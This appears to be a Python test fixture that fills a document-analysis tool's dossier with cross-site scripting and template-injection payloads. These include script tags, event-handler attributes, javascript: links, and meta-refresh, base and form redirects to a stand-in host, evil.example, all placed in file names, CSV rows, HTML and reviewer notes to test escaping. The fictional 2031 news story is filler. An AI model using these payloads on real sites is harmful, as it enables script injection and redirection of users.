"""A dossier in which every word that a person or a file can give is an attack on the page."""

import contextlib
import csv
from collections.abc import Mapping
from pathlib import Path

from alteram import api
from alteram.desk import Desk

# Each attack would leave an element with this mark, run a script, or fetch from elsewhere.
MARK = "data-zq"
ATTACKS = (
    f'<script {MARK}>ran("script")</script>',
    f'"><img {MARK} src=x onerror=ran("image")>',
    f"'><svg {MARK} onload=ran('svg')><animate onbegin=ran('animate') attributeName=x>",
    f"</title></textarea></style></script></td></table></main><script {MARK}>ran(1)</script>",
    f"--><style {MARK}>*{{display:none!important;background:url(http://evil.example/a)}}</style>",
    f'<div {MARK} style="position:fixed;inset:0;z-index:99999;background:red">over all</div>',
    f'<a {MARK} href="javascript:ran(2)">here</a><base {MARK} href="http://evil.example/">',
    f'<meta {MARK} http-equiv="refresh" content="0;url=http://evil.example/">',
    f'<form {MARK} action="http://evil.example/"><input autofocus onfocus=ran("focus")>',
    f'<b {MARK} hx-get="http://evil.example/" hx-trigger="load" hx-on:click="ran(3)">x</b>',
    "{{ 7 * 191 }} {% raise %} ${7*191} <%= 7*191 %> [[7*191]] {{constructor}}",
    "\N{RIGHT-TO-LEFT OVERRIDE}edirrevo\N{LEFT-TO-RIGHT ISOLATE} &lt;i&gt; &amp;quot; %3Cscript%3E",
)
WORD = "zqunbreakable" * 30


def attack(kind: str) -> str:
    """Return all attacks in one text, with a name by which to find it on a page."""
    return f"zq-{kind} {' '.join(ATTACKS)} {WORD}"


def short(kind: str) -> str:
    """Return attacks that fit where a name does."""
    return f'zq-{kind} "><img {MARK} src=x onerror=ran("{kind}")>\N{RIGHT-TO-LEFT OVERRIDE}x'


def shown(kind: str) -> str:
    """Return attacks of signs that can be shown alone, as edits of fields must be."""
    return "".join(one for one in short(kind) if one.isprintable())


STORY = """TARNOVA, 5 March 2031 - The Foreign Ministry of Vardania said on Wednesday that 12 \
people were killed in the shelling of Tarnova on 4 March 2031.

"The army of Ostrovia shelled the market of Tarnova on 4 March 2031, {attack} and 12 people were \
killed," said the ministry's spokesman, Anton Brask.

The Defence Ministry of Ostrovia denied that its army shelled Tarnova on 4 March 2031. "No more \
than five people were killed in Tarnova on 4 March 2031 {attack}," said its spokesman, Viktor Lasko.

{attack}
"""
LATER = """LESK, 6 March 2031 - The Interior Ministry of Vardania said that 40 people were killed \
in the shelling of Tarnova on 4 March 2031. {attack}
"""
# Letters of a name that a file may have; the slash of a closing tag is none.
FILE = f'zq-file "><img {MARK} src=x onerror=ran(9)> {{{{7*191}}}}.txt'
PAGE = """<!doctype html><html><head><title>{title}</title>
<meta property="og:site_name" content="{title}"><meta name="author" content="{title}">
<script>ran("original")</script></head><body onload="ran('body')"><article><h1>{title}</h1>
<p>The Foreign Ministry of Vardania said that 13 people were killed in Tarnova on 4 March 2031.</p>
<p>{text}</p></article></body></html>"""


def escaped(words: str) -> str:
    """Return words as a page writes them that shows them to its readers."""
    return words.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def make(folder: Path) -> Path:
    """Read and decide hostile things into a new dossier in a folder; return its path."""
    texts: Mapping[str, str] = {
        FILE: STORY.format(attack=attack("text")),
        "page.html": PAGE.format(title=escaped(attack("title")), text=escaped(attack("page"))),
    }
    for name, text in texts.items():
        (folder / name).write_text(text, encoding="utf-8")
    with (folder / "table.csv").open("w", encoding="utf-8", newline="") as file:
        rows = csv.writer(file)
        rows.writerow(("title", "outlet", "author", "date", "url", "text"))
        story = (LATER.format(attack=attack("row")), STORY.format(attack=attack("copy")))
        for number, text in enumerate(story):
            address = f"javascript:ran({number})"
            rows.writerow(
                (attack("row-title"), short("outlet"), short("author"), "2031-03-06", address, text)
            )
    dossier = folder / "hostile.alteram"
    with contextlib.chdir(folder):
        api.read([*sorted(texts), "table.csv"], dossier, processes=0)
        (folder / "bad.docx").write_bytes(b"no document")
        api.read(["bad.docx"], dossier, processes=0)
    _decide(dossier)
    return dossier


def _decide(dossier: Path) -> None:
    """Write decisions of a hostile person on everything that can be decided."""
    who, why = short("who"), attack("why")
    with Desk(dossier) as desk:
        view = desk.view("lead")
        actors = sorted(view.links.actors, key=lambda one: (-len(one.members), one.id))
        event = max(view.links.events, key=lambda one: (len(one.claims), one.id))
        item, *others = api.queue(dossier, limit=50).items
        first = view.documents[0].id
        for action, subject, value in (
            ("name", actors[0].id, shown("actor")),
            ("party", actors[1].id, shown("party")),
            ("label", event.id, shown("label")),
            ("note", item.id, attack("note")),
            ("note", first, attack("document-note")),
            ("note", f"{first} 0-20", attack("passage-note")),
            ("fatalities", event.id, "12"),
            ("accept", item.id, ""),
            ("reject", others[0].id, ""),
            ("needs_work", others[1].id, ""),
            ("edit", f"{others[2].attribution} speaker_name", shown("speaker")),
            ("edit", f"{others[3].id} affected", shown("affected")),
            ("restrict", others[4].id, ""),
        ):
            desk.decide(action, subject, value, who=who, why=why)
